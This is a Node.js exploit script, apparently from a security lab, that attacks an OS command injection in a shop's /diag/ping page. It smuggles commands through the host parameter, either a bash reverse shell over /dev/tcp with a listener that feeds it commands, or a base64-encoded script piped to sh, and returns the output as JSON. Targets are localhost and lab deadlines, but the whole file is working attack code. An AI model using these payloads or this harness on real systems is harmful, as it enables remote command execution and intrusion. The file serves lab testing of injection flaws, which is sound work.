// Attacker side of the OS command injection (CWE-78) against the shop's /diag/ping page.
//
//   node revshell.mjs --mode shell  --commands FILE [--port 4444] [--timeout MS | --deadline EPOCH_MS]
//     listens on 127.0.0.1:PORT, injects `bash -i >& /dev/tcp/127.0.0.1/PORT 0>&1` through the
//     ping host parameter, then types the commands of FILE into the reverse shell.
//   node revshell.mjs --mode inline --script FILE [--timeout MS | --deadline EPOCH_MS]
//     injects `echo BASE64 | base64 -d | sh` (the script of FILE) and reads the page's output.
//
// Prints a JSON summary on stdout: {"connected": …, "output": "…"}.
import http from 'node:http';
import net from 'node:net';
import { readFileSync } from 'node:fs';
import { parseArgs, sleep } from '../common/rng.mjs';

const args = parseArgs(process.argv.slice(2));
const port = Number(args.port ?? 4444);
const timeout = Number(args.timeout ?? 10_000);
const web = { host: '127.0.0.1', port: Number(args['web-port'] ?? 8080) };
// --deadline (epoch ms) is the lab's own: node's start-up under load can take a second, and a
// deadline counted from here would outlive the lab's, which kills us before the summary.
const deadline = args.deadline !== undefined ? Number(args.deadline) : Date.now() + timeout;

function get(path) {
  return new Promise((resolve) => {
    const req = http.request({ ...web, method: 'GET', path, timeout: Math.max(1000, deadline - Date.now()) }, (res) => {
      const parts = [];
      res.on('data', (d) => parts.push(d));
      res.on('end', () => resolve({ status: res.statusCode, body: Buffer.concat(parts).toString('utf8') }));
    });
    req.on('timeout', () => req.destroy());
    req.on('error', (e) => resolve({ status: 0, body: String(e) }));
    req.end();
  });
}

const inject = (payload) => get(`/diag/ping?host=${encodeURIComponent(`127.0.0.1; ${payload}`)}`);

function unescapeHtml(s) {
  return s.replace(/&lt;/g, '<').replace(/&gt;/g, '>').replace(/&quot;/g, '"').replace(/&#39;/g, "'").replace(/&amp;/g, '&');
}

async function inline() {
  const script = readFileSync(args.script, 'utf8');
  const b64 = Buffer.from(script).toString('base64');
  const r = await inject(`echo ${b64} | base64 -d | sh`);
  const pre = /<pre>([\s\S]*?)<\/pre>/.exec(r.body);
  return { connected: r.status === 200, status: r.status, output: unescapeHtml(pre ? pre[1] : r.body).slice(0, 20000) };
}

async function shell() {
  const commands = readFileSync(args.commands, 'utf8').split('\n').filter((l) => l.trim() && !l.startsWith('#'));
  let output = '';
  let connected = false;
  const server = net.createServer();
  const conn = new Promise((resolve) => {
    server.once('connection', (sock) => {
      connected = true;
      sock.on('data', (d) => (output += d.toString('utf8')));
      sock.on('error', () => undefined);
      resolve(sock);
    });
  });
  await new Promise((resolve, reject) => {
    server.once('error', reject);
    server.listen(port, '127.0.0.1', resolve);
  });
  // The request returns once ping is done; the shell keeps running in the background.
  const req = inject(`bash -c 'bash -i >& /dev/tcp/127.0.0.1/${port} 0>&1' &`);
  const sock = await Promise.race([conn, sleep(Math.max(0, deadline - Date.now())).then(() => null)]);
  if (sock) {
    await sleep(300);
    for (const c of commands) {
      if (Date.now() > deadline - 500) break;
      sock.write(`${c}\n`);
      await sleep(250);
    }
    await sleep(Math.min(800, Math.max(0, deadline - Date.now())));
    sock.destroy();
  }
  server.close();
  // The injected request may hang as long as the backgrounded shell holds ping's output open:
  // never wait past our deadline, or the lab kills us before the summary is printed.
  await Promise.race([req, sleep(Math.max(0, deadline - Date.now()))]);
  return { connected, output: output.slice(0, 20000) };
}

const result = args.mode === 'inline' ? await inline() : await shell();
process.stdout.write(`${JSON.stringify(result)}\n`);
process.exit(0);
